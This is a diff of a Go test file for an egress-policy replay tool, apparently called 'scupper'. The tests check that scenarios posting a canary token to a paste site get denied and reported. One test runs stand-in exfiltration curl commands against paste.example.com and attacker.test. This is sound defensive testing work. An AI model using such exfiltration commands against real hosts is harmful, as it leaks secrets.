@@ -138,3 +138,91 @@ func TestReplayFindsFaults(t *testing.T) {
 		w.scupper("replay", path).wantExit(2).wantStderr("policy.hcl")
 	})
 }
+
+// TestReplayForms writes the results in every form.
+func TestReplayForms(t *testing.T) {
+	w := newWorld(t, ordinaryUser(t))
+	w.work("policy.hcl", leakyPolicy)
+	path := w.work("s.hcl", `service "own" {
+  host = "crm.example.com"
+  respond { body = "from the file" }
+}
+scenario "leaky" {
+  describe = "a paste with the token"
+  attempt {
+    http {
+      method  = "POST"
+      url     = "https://paste.example.com/"
+      headers = { Content-Type = "text/plain" }
+      body    = canary.token
+    }
+  }
+  expect { verdict = "deny" }
+}
+scenario "typed" {
+  describe = "a paste of another type, at another path"
+  for_each = { path = "https://paste.example.com/raw", type = "https://paste.example.com/" }
+  attempt {
+    http {
+      method  = "POST"
+      url     = each.value
+      headers = { Content-Type = "application/json" }
+      body    = json({ t = canary.token })
+    }
+  }
+  expect { verdict = "deny" }
+}
+`)
+	junit, sarif := w.at("home/junit.xml"), w.at("home/replay.sarif")
+	a := w.scupper("replay", "--junit", junit, "--sarif", sarif, "--github", "--matrix", path).wantExit(1)
+	a.wantStdout("::error file=").wantStdout("title=LEAK leaky::").wantStdout("stopped by body alone").wantStdout("typed[path]  x     o   \n")
+	for file, want := range map[string]string{junit: `<testsuite name="scupper replay" tests="3" failures="1" errors="0">`, sarif: `"startLine": 7`} {
+		text, err := os.ReadFile(file)
+		if err != nil || !strings.Contains(string(text), want) {
+			t.Errorf("%s: %v: no %q in\n%s", file, err, want, text)
+		}
+	}
+	w.scupper("replay", "--without", "body", path).wantExit(1).wantStdout("LEAK         typed[type]")
+}
+
+// TestReplayService has a service of a scenario file answer, with a job that needs it.
+func TestReplayService(t *testing.T) {
+	w := newWorld(t, ordinaryUser(t))
+	w.work("policy.hcl", strings.NewReplacer("paste.example.com", "crm.example.com", `"POST"`, `"GET"`, `    body {
+      type = "text/plain"
+      max  = "1KiB"
+    }
+`, "").Replace(leakyPolicy))
+	text := `service "own" {
+  host = "crm.example.com"
+  respond { body = "from the file" }
+}
+scenario "job" {
+  describe = "what the service is for"
+  attempt {
+    http { url = "https://crm.example.com/" }
+  }
+  expect {
+    verdict = "allow"
+    output  = "%s"
+    arrives = ["GET https://crm.example.com/"]
+  }
+}
+`
+	w.scupper("replay", w.work("s.hcl", strings.Replace(text, "%s", "from the file", 1))).wantExit(0)
+	w.scupper("replay", w.work("s.hcl", strings.Replace(text, "%s", "from elsewhere", 1))).wantExit(1).wantStdout("UNEXPECTED")
+}
+
+// TestReplayRecord makes a scenario of a run, and replays it.
+func TestReplayRecord(t *testing.T) {
+	w := newWorld(t, ordinaryUser(t))
+	w.policy(leakyPolicy)
+	a := w.run(shell("curl -sS -d x -H 'Content-Type: text/plain' https://paste.example.com/; curl -sS https://paste.example.com/secret?a=b; curl -sS https://attacker.test/"))
+	recorded := w.scupper("replay", "--record", "last", "--audit", a.audit).wantExit(0).stdout
+	for _, want := range []string{`method = "GET"`, `url    = "https://paste.example.com/secret?a=x"`, `dns { name = "attacker.test" }`, "path_not_granted", "no_grant", `arrives = ["POST https://paste.example.com/*"]`} {
+		if !strings.Contains(recorded, want) {
+			t.Errorf("no %q in\n%s", want, recorded)
+		}
+	}
+	w.scupper("replay", w.work("recorded.hcl", recorded)).wantExit(0).wantStdout("1 attack, 0 jobs; 1 as expected")
+}
